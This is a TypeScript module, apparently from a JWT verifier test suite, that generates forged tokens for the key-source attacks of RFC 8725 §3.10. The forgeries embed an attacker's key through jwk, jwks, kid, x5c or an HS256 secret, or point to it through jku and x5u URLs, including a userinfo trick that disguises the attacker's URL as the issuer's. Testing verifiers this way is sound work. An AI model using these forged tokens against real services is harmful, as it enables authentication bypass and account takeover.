import { createHash } from 'node:crypto'
import { signHmac, signToken } from '../token/sign.ts'
import { prolonged, tokenAttack, type Attack, type Kit } from './attack.ts'

function source(name: string, sentence: string, header: (kit: Kit) => Readonly<Record<string, unknown>> | undefined): Attack {
  return tokenAttack('key-source', 'key-from-token', name, `signed by the attacker's key: ${sentence}`, (kit) => {
    const members = header(kit)
    if (members === undefined) return undefined
    const { keys, good } = kit
    return signToken({ ...good.header, alg: keys.rsa.alg, ...members }, prolonged(good), keys.rsa.privateKey, keys.rsa.alg)
  })
}

const OWN_KID = { kid: 'attacker' }

/** Tokens that bring their key, or say where it is. RFC 8725 §3.10. */
export const keySourceAttacks: readonly Attack[] = [
  source('jwk', 'it is in the header (jwk), under the kid of the issuer’s', ({ keys }) => ({ jwk: keys.rsa.publicJwk })),
  source('jwk-own-kid', 'it is in the header (jwk), under its own kid', ({ keys }) => ({
    ...OWN_KID,
    jwk: { ...keys.rsa.publicJwk, ...OWN_KID, alg: keys.rsa.alg, use: 'sig' },
  })),
  source('jwk-no-kid', 'it is in the header (jwk), and there is no kid', ({ keys }) => ({
    kid: undefined,
    jwk: keys.rsa.publicJwk,
  })),
  source('jwks-in-header', 'a key set with it is in the header (jwks)', ({ keys }) => ({
    ...OWN_KID,
    jwks: { keys: [{ ...keys.rsa.publicJwk, ...OWN_KID }] },
  })),
  source('key-as-kid', 'it is the kid itself, as an object', ({ keys }) => ({ kid: keys.rsa.publicJwk })),
  source('jku', 'jku says where it is, under its own kid', ({ outpost }) =>
    outpost && { ...OWN_KID, jku: outpost.jwksUrl('jku') },
  ),
  source('jku-same-kid', 'jku says where it is, under the kid of the issuer’s', ({ outpost, good }) =>
    outpost && { jku: outpost.jwksUrl('jku-same-kid', good.header['kid']) },
  ),
  source('jku-like-issuer', 'jku begins as the issuer’s address does, and leads to the attacker’s', ({ outpost, good }) =>
    outpost && { ...OWN_KID, jku: disguise(outpost.jwksUrl('jku-like-issuer'), good.claims['iss']) },
  ),
  source('x5u', 'x5u says where its certificate is', ({ outpost }) =>
    outpost && { ...OWN_KID, x5u: outpost.certificateUrl('x5u') },
  ),
  source('x5c', 'its certificate is in the header (x5c), under the kid of the issuer’s', ({ keys }) => ({
    x5c: [keys.certificate],
  })),
  source('x5c-own-kid', 'its certificate is in the header (x5c), with its thumbprint, under its own kid', ({ keys }) => ({
    ...OWN_KID,
    x5c: [keys.certificate],
    'x5t#S256': createHash('sha256').update(Buffer.from(keys.certificate, 'base64')).digest('base64url'),
  })),
  tokenAttack('key-source', 'key-from-token', 'iss-of-attacker', "signed by the attacker's key, and iss is the attacker's own issuer", ({ outpost, good, keys }) => {
    if (outpost === undefined) return undefined
    const claims = { ...prolonged(good), iss: outpost.issuer('iss-of-attacker') }
    return signToken({ ...good.header, ...OWN_KID, alg: keys.rsa.alg }, claims, keys.rsa.privateKey, keys.rsa.alg)
  }),
  tokenAttack('key-source', 'key-from-token', 'jwk-secret', 'signed by HS256 with a secret that is in the header (jwk)', ({ good }) =>
    signHmac(
      { ...good.header, alg: 'HS256', jwk: { kty: 'oct', k: Buffer.from('attacker').toString('base64url') } },
      prolonged(good),
      'attacker',
    ),
  ),
]

/** `http://issuer@attacker/…`: whoever compares the beginning alone takes it for the issuer's. */
function disguise(address: string, iss: unknown): string {
  const url = new URL(address)
  const issuer = typeof iss === 'string' && URL.canParse(iss) ? new URL(iss).host : 'issuer'
  return `${url.protocol}//${issuer.replace(':', '%3A')}@${url.host}${url.pathname}`
}
